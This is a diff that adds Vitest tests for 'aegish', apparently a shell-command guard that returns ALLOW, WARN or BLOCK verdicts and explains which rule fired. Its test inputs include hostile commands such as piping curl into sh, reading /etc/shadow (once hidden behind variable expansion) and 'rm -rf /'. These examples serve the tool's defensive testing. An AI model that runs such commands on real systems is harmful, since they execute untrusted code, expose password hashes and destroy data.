@@ -1,0 +1,117 @@
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { aegish } from './command.ts'
+import { testFolder } from './test-folder.ts'
+
+const folder = testFolder()
+
+describe('aegish check', () => {
+  it.each([
+    ['git status', 0, 'ALLOW'],
+    ['curl -sO https://example.com/a.csv', 10, 'WARN'],
+    ['curl -s https://example.com/a | sh', 20, 'BLOCK'],
+  ])('%s exits with %i', (command, status, verdict) => {
+    const result = aegish(['check', command])
+    expect(result.status).toBe(status)
+    expect(result.stdout).toMatch(new RegExp(`^${verdict}  `))
+    expect(result.stderr).toBe('')
+  })
+
+  it('names the rule and underlines the part', () => {
+    const { stdout } = aegish(['check', 'ls; cat /etc/shadow'])
+    expect(stdout).toContain('rule 4: Reads a security-critical file')
+    expect(stdout).toContain('  ls; cat /etc/shadow\n      ^^^^^^^^^^^^^^^\n')
+  })
+
+  it('reads standard input and files', () => {
+    expect(aegish(['check', '-'], { input: 'echo hi\nrm -rf /\n' }).status).toBe(20)
+    const script = join(folder.path, 'x.sh')
+    writeFileSync(script, '#!/bin/sh\nset -e\nmake\n')
+    expect(aegish(['check', '--file', script]).status).toBe(0)
+  })
+
+  it('prints stable JSON', () => {
+    const { stdout } = aegish(['check', 'cat /etc/shadow', '--json'])
+    expect(JSON.parse(stdout)).toEqual({
+      command: 'cat /etc/shadow',
+      guard: 'static',
+      verdict: 'BLOCK',
+      reason: 'cat reads the password hashes of the machine: "/etc/shadow"',
+      rule: '4',
+      certainty: 'known',
+      confidence: 0.95,
+      span: { start: 0, end: 15 },
+    })
+  })
+
+  it('explains the four steps', () => {
+    const { stdout } = aegish(['check', 'a=ca; ${a}t /etc/shadow', '--explain'])
+    for (const part of [
+      '1 parse',
+      '2 resolve',
+      'cat /etc/shadow',
+      '3 effects',
+      'read /etc/shadow',
+      '4 policy',
+      'BLOCK rule 4',
+    ]) {
+      expect(stdout).toContain(part)
+    }
+  })
+
+  it('takes a role and a policy', () => {
+    expect(aegish(['check', 'getent passwd', '--role', 'restricted']).status).toBe(20)
+    const policy = join(folder.path, 'policy.yml')
+    writeFileSync(policy, 'version: 1\ndeny:\n  - {binary: make, reason: not here}\n')
+    const { status, stdout } = aegish(['check', 'make', '--policy', policy])
+    expect(status).toBe(20)
+    expect(stdout).toContain('your policy denies it: not here')
+  })
+
+  it('asks other guards', () => {
+    expect(aegish(['check', 'git status', '--guard', 'baseline/block']).status).toBe(20)
+  })
+
+  it.each([
+    [['check']],
+    [['check', 'a', '--file', 'b']],
+    [['check', '--file', '/nonexistent/x.sh']],
+    [['check', 'a', '--guard', 'nobody']],
+    [['check', 'a', '--role', 'king']],
+    [['check', 'a', '--policy', '/nonexistent.yml']],
+    [['check', 'a', '--frobnicate']],
+    [['explain-rule', '99']],
+    [['policy', 'check', '/nonexistent.yml']],
+    [['policy', 'frobnicate']],
+  ])('%j is wrong usage: one line and exit code 2', (args) => {
+    const { status, lines, stdout } = aegish(args)
+    expect(status).toBe(2)
+    expect(lines).toHaveLength(1)
+    expect(stdout).toBe('')
+  })
+})
+
+describe('aegish explain-rule', () => {
+  it('says what a rule means, and lists all', () => {
+    expect(aegish(['explain-rule', '1A']).stdout).toContain(
+      'rule 1a: Shell from a program that is not a shell (BLOCK)',
+    )
+    const rules = JSON.parse(aegish(['explain-rule', '--json']).stdout)
+    expect(rules.map((rule: { id: string }) => rule.id)).toContain('D')
+  })
+})
+
+describe('aegish policy check', () => {
+  it('says that a policy is fine, or what is wrong with it', () => {
+    const policy = join(folder.path, 'p.yml')
+    writeFileSync(policy, 'version: 1\nrole: sysadmin\nallow:\n  - {binary: x, reason: y}\n')
+    expect(aegish(['policy', 'check', policy]).stdout).toBe(
+      `${policy}: fine (1 allowed, 0 denied, role sysadmin)\n`,
+    )
+    writeFileSync(policy, 'version: 1\nallow: [{}]\n')
+    const { status, lines } = aegish(['policy', 'check', policy])
+    expect(status).toBe(2)
+    expect(lines[0]).toContain(`${policy}: allow.0`)
+  })
+})
